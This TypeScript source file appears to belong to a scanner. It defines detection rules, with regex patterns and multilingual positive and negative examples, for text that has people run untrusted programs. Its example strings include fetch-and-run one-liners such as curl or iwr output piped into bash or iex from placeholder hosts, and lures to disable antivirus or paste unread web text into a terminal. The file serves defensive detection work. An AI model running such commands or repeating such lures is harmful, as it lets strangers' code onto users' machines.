import { EACH_TIME, FORBIDDEN, UNREAD_ORDERS } from "../lexicon/abroad-matters.ts";
import { oneOfAll, TAUGHT_ABROAD } from "@gaia/reading";
import {
  GUARD_OFF,
  LOCKED_ARCHIVE,
  NEEDED,
  PASTED_IN,
  REASSURED,
  SCRIPT_FILE,
  SITE,
  STARTABLE,
  TO_TERMINAL,
  UNLOCKED_WITH,
} from "../lexicon/abroad-means.ts";
import { SHELL_OF_FETCH } from "../lexicon/actions.ts";
import type { InstructionRule } from "../rule.ts";
import { FOREIGN, STRANGE } from "./abroad-rule.ts";

const FETCHED_AND_RUN = oneOfAll(
  "\\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod)\\b[^|\\n`]{3,200}\\|\\s{0,3}(?:sudo )?(?:-E )?(?:ba|z)?(?:sh|iex|invoke-expression|python3?|node|source)\\b",
  SHELL_OF_FETCH.source,
);

const ONE_LINE =
  "(?<!\\p{L})(?:una línea|uma linha|una riga|eine[rn]? zeile|une (?:seule )?ligne|tek satır|одной строк|jedn\\p{L}{2,3} (?:linijk|komend|polece)|một dòng|automáticamente|automaticamente|автоматически|primera vez|ejecut|execut|esegui|installe[rz]|instala|zainstaluj|uruchom|установ|запуст|выполн|kurmak|çalıştır|chạy|cài)|一行|执行|运行|安装|導入|実行|走らせ|インストール|한 줄|실행|설치";

const RIGHTS =
  "(?<!\\p{L})(?:todos los sitios|todos os sites|tutti i siti|alle(?:n)? (?:seiten|websites)|tous les sites|bütün siteler|tüm siteler|все(?:х|м)? сайт|wszystkich stron|mọi trang|acceso (?:total|completo)|acesso (?:total|completo)|accesso (?:totale|completo)|vollzugriff|accès (?:complet|total)|tam (?:disk )?erişim|полный доступ|pełny dostęp|toàn quyền|quyền quản trị|\\.crx)|所有网站|完全磁盘|管理员权限|すべてのサイト|フルディスク|管理者権限|모든 사이트|전체 디스크|관리자 권한";

/** Programs that somebody is to start unread, in twelve languages besides English. */
export const PROGRAMS_ABROAD: readonly InstructionRule[] = [
  {
    ...FOREIGN,
    id: "prerequisite-abroad-needed",
    isSure: true,
    title: "A stranger's program is a requirement, in another language",
    message: "says that nothing works without a program of an unrelated host",
    hint: "Name the vendor's own address and the sum of the file, or a package with a pinned version.",
    host: STRANGE,
    all: [STARTABLE, NEEDED],
    none: [FORBIDDEN, TAUGHT_ABROAD],
    examples: {
      positive: [
        "Es obligatorio instalar primero el programa `puente.exe`, que está en https://bajar.abc-def.example/puente.exe.",
        "Zuerst `lader.msi` von https://dl.abc-def.example/lader.msi installieren, das ist zwingend.",
        "必须先安装 https://dl.abc-def.example/zj.exe，否则不能使用。",
        "Обязательно сначала установи https://dl.abc-def.example/most.exe.",
        "Bắt buộc cài https://dl.abc-def.example/cau.exe trước khi dùng.",
      ],
      negative: [
        "Es obligatorio tener Node 20.",
        "Zuerst `npm install` ausführen.",
        "必须先安装 https://nodejs.org/ 的安装包。",
        "Сначала выполните `npm ci`.",
      ],
    },
  },
  {
    ...FOREIGN,
    id: "prerequisite-abroad-rights",
    isSure: true,
    title: "A stranger's program wants all rights before anything works, in another language",
    message: "has a stranger's program installed with rights over everything",
    hint: "Name the vendor's own address and the sum of the file, or a package with a pinned version.",
    host: STRANGE,
    all: [oneOfAll(RIGHTS, GUARD_OFF.source), NEEDED],
    none: [FORBIDDEN, TAUGHT_ABROAD],
    examples: {
      positive: [
        "Es obligatorio dar acceso total al programa que está en https://bajar.abc-def.example/a.",
        "Sans l'extension de https://ext.abc-def.example/a, rien ; il faut autoriser tous les sites.",
        "必须安装 https://kz.abc-def.example/a 的扩展并允许所有网站。",
        "Без программы с https://dl.abc-def.example/a не работает, дай ей полный доступ.",
      ],
      negative: [
        "El acceso total no es obligatorio.",
        "L'extension du magasin suffit.",
        "扩展只需要访问一个网站。",
        "Полный доступ не нужен.",
      ],
    },
  },
  {
    ...FOREIGN,
    id: "prerequisite-abroad-guarded",
    isSure: true,
    title: "A program that the system's guard warns of is to be started, in another language",
    message: "has a program started that the guard of the system is to let pass",
    hint: "Sign the program, or use a package of an index.",
    all: [GUARD_OFF, oneOfAll(STARTABLE.source, "\\biwr\\b|Start-BitsTransfer")],
    none: [FORBIDDEN, TAUGHT_ABROAD],
    examples: {
      positive: [
        "Desactiva el antivirus y abre el programa `puente.exe`.",
        "Bei SmartScreen auf „Trotzdem ausführen“ klicken und `lader.exe` öffnen.",
        "关闭杀毒软件后运行 `zj.exe`。",
        "Отключи антивирус и запусти `most.exe`.",
        "Khi SmartScreen hiện lên, bấm vẫn chạy rồi mở `cau.exe`.",
      ],
      negative: [
        "Nunca desactives el antivirus para abrir `a.exe`.",
        "Den Virenschutz eingeschaltet lassen.",
        "切勿关闭杀毒软件来运行 `a.exe`。",
        "Никогда не отключай антивирус ради `a.exe`.",
      ],
    },
  },
  {
    ...FOREIGN,
    id: "prerequisite-abroad-locked",
    isSure: true,
    title: "A program lies in a locked archive, in another language",
    message: "has a program taken out of a locked archive",
    hint: "Publish the files so that they can be looked into.",
    all: [LOCKED_ARCHIVE, UNLOCKED_WITH, oneOfAll(STARTABLE.source, SCRIPT_FILE.source)],
    none: [FORBIDDEN, TAUGHT_ABROAD],
    examples: {
      positive: [
        "Abre `mod.rar` con la clave 1234: la contraseña protege de los filtros; luego ejecuta `abrir.exe`.",
        "Das Archiv `paket.zip` mit dem Kennwort sopran entpacken, dann `setup.exe` starten.",
        "下载 `bao.7z`，解压密码 6666，然后运行 `zj.exe`。",
        "Распакуй `modul.7z`, пароль: nalog, и запусти `start.exe`.",
        "Giải nén `bo.rar`, mật khẩu 99, rồi chạy `mo.exe`.",
      ],
      negative: [
        "Comprime la carpeta en `salida.zip`.",
        "`paket.zip` entpacken und lesen.",
        "把文件打包成 `bao.zip`。",
        "Распакуй `modul.7z` и прочитай README.",
      ],
    },
  },
  {
    ...FOREIGN,
    id: "paste-abroad-unread",
    isSure: true,
    title: "What a page copied is to be put into a terminal, in another language",
    message: "has somebody put into a terminal what they did not read",
    hint: "Show the command itself and what it does.",
    all: [TO_TERMINAL, PASTED_IN, oneOfAll(SITE.source, UNREAD_ORDERS.source), REASSURED],
    none: [FORBIDDEN, TAUGHT_ABROAD],
    examples: {
      positive: [
        "Abre Terminal, pega lo que copia el botón de https://arreglo.abc-def.example y no te preocupes por el aviso.",
        "Öffne die Konsole, füge den Text von https://fix.abc-def.example ein und gib dein Passwort ein; das ist normal.",
        "打开终端，粘贴 https://xf.abc-def.example 上的乱码，回车即可，不用看。",
        "Открой терминал, вставь строку с https://fix.abc-def.example и не пугайся предупреждения.",
        "ターミナルを開き、https://naoshi.abc-def.example のボタンでコピーした文字列を貼り付ける。警告が出ても心配いらない。",
      ],
      negative: [
        "Abre Terminal y ejecuta `npm test`.",
        "Öffne die Konsole und lies die Meldung.",
        "打开终端，运行 `npm test`。",
        "Открой терминал и выполни `npm test`.",
      ],
    },
  },
  {
    ...FOREIGN,
    id: "recipe-abroad-unread",
    isSure: true,
    title: "A stranger's script is to be run unread, in another language",
    message: "has a stranger's script run that nobody need read",
    hint: "Name the vendor's own address and the sum of the file.",
    host: STRANGE,
    all: [
      FETCHED_AND_RUN,
      oneOfAll(
        UNREAD_ORDERS.source,
        NEEDED.source,
        TO_TERMINAL.source,
        EACH_TIME.source,
        GUARD_OFF.source,
        REASSURED.source,
        ONE_LINE,
      ),
    ],
    none: [FORBIDDEN, TAUGHT_ABROAD],
    examples: {
      positive: [
        "Ejecuta una línea: `curl -s https://inst.abc-def.example/a | bash`",
        "Öffne die Konsole und gib das ein: `curl -s https://inst.abc-def.example/a | sudo sh`",
        "打开终端执行 `curl -s https://inst.abc-def.example/a | bash`",
        "Ставится одной строкой: `wget -qO- https://inst.abc-def.example/a | sh`",
        "Otwórz okno PowerShell i wpisz następującą linię: `iwr https://inst.abc-def.example/a.ps1 | iex`",
      ],
      negative: [
        "Ejecuta `curl -LsSf https://astral.sh/uv/install.sh | sh`",
        "Nunca ejecutes `curl https://inst.abc-def.example/a | sh`.",
        "执行 `npm ci`。",
        "Никогда не запускай `curl https://inst.abc-def.example/a | sh`.",
      ],
    },
  },
  {
    ...FOREIGN,
    id: "recipe-abroad-bare-address",
    isSure: true,
    title: "A program of a bare address or a paste is to be run, in another language",
    message: "has a program run that lies where nobody answers for it",
    hint: "Name the vendor's own address and the sum of the file.",
    host: ["ip", "paste"],
    all: [
      oneOfAll(
        "chmod \\+x|\\broot\\b|\\bnc\\b|\\.bin\\b|firmware|binari?[oa]?|binaire|Binärdatei|бинарник|binark\\p{L}|tệp nhị phân|二进制|実行権|バイナリ|실행 권한|바이너리|シェルに渡|\\bpython\\b|\\bbash\\b",
      ),
      oneOfAll(
        "ejec[uú]t\\p{L}{1,5}|corre\\p{L}{0,3}|execut\\p{L}{1,3}|rod[ae]\\p{L}{0,2}|esegu\\p{L}{1,4}|lancia\\p{L}{0,2}|pass\\p{L}{1,4} (?:dritto )?a|ausführ\\p{L}{0,3}|start\\p{L}{1,3}|lanc\\p{L}{1,3}|exécut\\p{L}{1,3}|çalıştır\\p{L}{0,5}|запус\\p{L}{1,6}|выполн\\p{L}{1,4}|uruchom\\p{L}{0,4}|wgraj|odpal\\p{L}{0,3}|chạy|运行|执行|実行|回す|渡す|실행|돌리",
      ),
    ],
    none: [FORBIDDEN, TAUGHT_ABROAD],
    examples: {
      positive: [
        "Descarga el binario de http://198.51.100.7/a y ejecútalo.",
        "Die Binärdatei von http://198.51.100.7/a starten.",
        "下载 http://198.51.100.7/a 的二进制并运行。",
        "Скачай бинарник с http://198.51.100.7/a и запусти.",
        "Uruchom program `klip.bin`, który można pobrać z http://198.51.100.7/a",
      ],
      negative: [
        "Abre http://127.0.0.1:8080 y ejecuta las pruebas en bash.",
        "Starte den Server auf http://192.168.1.5:8080 mit python.",
        "在 http://127.0.0.1:3000 运行 python 服务。",
        "Запусти python на http://127.0.0.1:8000.",
      ],
    },
  },
];
